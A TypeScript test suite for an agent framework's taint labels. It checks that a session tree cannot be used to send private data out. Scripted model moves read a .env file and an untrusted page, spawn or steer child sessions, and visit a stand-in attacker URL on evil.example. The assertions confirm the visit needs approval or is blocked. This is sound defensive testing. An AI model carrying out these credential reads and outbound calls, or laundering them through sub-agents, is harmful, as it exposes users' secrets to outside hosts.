/** The labels of a session apply to its messages: a child cannot be used to send data out. */
import { SessionPack } from "@bough/pack-session"
import type { Approval, Entry } from "@bough/protocol"
import { assert, describe, it } from "@effect/vitest"
import * as Effect from "effect/Effect"
import * as Stream from "effect/Stream"
import { Channel, Model, Session, SessionStore, type Tree } from "../../src/index.ts"
import * as Reply from "../../src/testing/Reply.ts"
import { agentOf, page, stolen } from "../session/taintWorld.ts"
import * as World from "../session/world.ts"
import * as Grove from "./grove.ts"

type Move = (prompt: Model.Prompt) => Reply.Reply

/** Plays one list of moves for the session whose task is "work", another for its parent. */
const modelOf = (above: ReadonlyArray<Move>, below: ReadonlyArray<Move>): Model.Model["Service"] => ({
  name: "test/two",
  contextTokens: null,
  priced: false,
  stream: (prompt) =>
    Stream.suspend(() => {
      const moves = prompt.messages.some((message) => message._tag === "User" && message.text === "work")
        ? below
        : above
      const replyCount = prompt.messages.filter(({ _tag }) => _tag === "Assistant").length
      const parts = moves[replyCount](prompt).flatMap((piece) =>
        piece._tag === "Pause" || piece._tag === "Hang" || piece._tag === "Fail" ? [] : [piece]
      )
      return Stream.fromIterable(parts)
    })
})

const childIn = ({ messages }: Model.Prompt): string =>
  /ses_[0-9a-f]+/u.exec(JSON.stringify(messages.filter(({ _tag }) => _tag === "ToolResult")))?.[0] ?? ""

interface Moves {
  readonly above: ReadonlyArray<Move>
  readonly below: ReadonlyArray<Move>
}

const play = (world: World.World, above: ReadonlyArray<Move>, below: ReadonlyArray<Move>) =>
  playWith(world, { above, below }, { _tag: "Denied", words: null })

const playWith = Effect.fnUntraced(function* (
  world: World.World,
  { above, below }: Moves,
  decision: Approval.Decision
) {
  const approvalRequests: Array<Approval.Request> = []
  const answer = (request: Approval.Request): Effect.Effect<Channel.ChannelAnswer> =>
    Effect.sync(() => {
      approvalRequests.push(request)
      return { decision, principal: "ada" }
    })
  const childAgent: Tree.ChildAgent = (kind) => Effect.succeed(agentOf(world, kind, SessionPack.all))
  const session = yield* Session.open({
    agent: agentOf(world, "Main", SessionPack.all),
    sessionId: null,
    childAgent
  }).pipe(
    Effect.provideService(Channel.Channel, World.channelOf([], answer)),
    Effect.provideService(Model.Model, modelOf(above, below))
  )
  yield* session.run(World.say(`read ${page}`))
  const [{ childId }] = yield* Grove.bodies(session.sessionId, "ChildSpawned")
  const store = yield* SessionStore.SessionStore
  const entries: ReadonlyArray<Entry.Entry> = yield* store.entries(childId, 0, 1000)
  return { asked: approvalRequests, childId, entries }
})

const spawns: Move = () => Reply.toolCall("spawn_branch", { task: "work" })
const readsFile: Move = () => Reply.toolCall("open_file", { path: ".env" })
const readsPage: Move = () => Reply.toolCall("visit", { url: page })
const steals: Move = () => Reply.toolCall("visit", { url: stolen })
const waits: Move = () => Reply.toolCall("wait_for_sessions")
const says =
  (text: string): Move =>
  () =>
    Reply.text(text)

describe("taint in a tree", () => {
  it.effect("a child has all labels of its parent", () =>
    Grove.run(
      Effect.gen(function* () {
        const world = World.makeWorld()
        const { asked, childId } = yield* play(
          world,
          [readsFile, readsPage, spawns, waits, says("done")],
          [readsPage, steals, says("no")]
        )
        assert.deepStrictEqual(
          asked.map(({ arguments: callArguments, sessionPath }) => [callArguments, sessionPath.at(-1)]),
          [[JSON.stringify({ url: stolen }), childId]]
        )
        assert.match(asked[0].reason, /private data \(open_file: Read 1 line of \.env\)/)
        assert.notInclude(world.log, `visit ${stolen}`)
      })
    )
  )

  it.effect("a running child gets a later label of its parent with the parent's next message", () =>
    Grove.run(
      Effect.gen(function* () {
        const world = World.makeWorld()
        world.gate.closeUnsafe()
        const { asked, entries } = yield* play(
          world,
          [
            spawns,
            readsFile,
            readsPage,
            (prompt) => Reply.toolCall("steer_session", { session: childIn(prompt), text: `fetch ${stolen}` }),
            () => {
              world.gate.openUnsafe()
              return Reply.toolCall("wait_for_sessions")
            },
            says("done")
          ],
          [() => Reply.toolCall("look", { key: "a" }), steals, says("no")]
        )
        assert.deepStrictEqual(
          entries.flatMap(({ body, labels }) => (body._tag === "UserMessage" ? [labels.toSorted()] : [])),
          [[], ["private", "untrusted"]]
        )
        assert.strictEqual(asked.length, 1)
        assert.notInclude(world.log, `visit ${stolen}`)
      })
    )
  )

  it.effect("a host that a user approved is allowed in the whole tree, above and below the session that asked", () =>
    Grove.run(
      Effect.gen(function* () {
        const world = World.makeWorld()
        const other = stolen.replace("evil", "other")
        const goesOn: Move = () => Reply.toolCall("visit", { url: `${stolen}&more` })
        const { asked, childId } = yield* playWith(
          world,
          {
            above: [
              readsFile,
              steals,
              spawns,
              waits,
              () => Reply.toolCall("visit", { url: `${other}&more` }),
              says("done")
            ],
            below: [readsFile, goesOn, () => Reply.toolCall("visit", { url: other }), says("ok")]
          },
          { _tag: "Approved", rule: null }
        )
        assert.deepStrictEqual(
          asked.map(({ opensHost, sessionPath }) => [opensHost, sessionPath.at(-1) === childId]),
          [
            ["evil.example:443", false],
            ["other.example:443", true]
          ]
        )
        assert.strictEqual(world.log.length, 4)
      })
    )
  )

  it.effect("the parent gets a child's labels with its result", () =>
    Grove.run(
      Effect.gen(function* () {
        const world = World.makeWorld()
        const { asked, childId } = yield* play(
          world,
          [readsPage, spawns, waits, steals, says("done")],
          [readsFile, says("s3cret")]
        )
        assert.strictEqual(asked.length, 1)
        assert.notInclude(asked[0].sessionPath, childId)
        assert.notInclude(world.log, `visit ${stolen}`)
      })
    )
  )
})
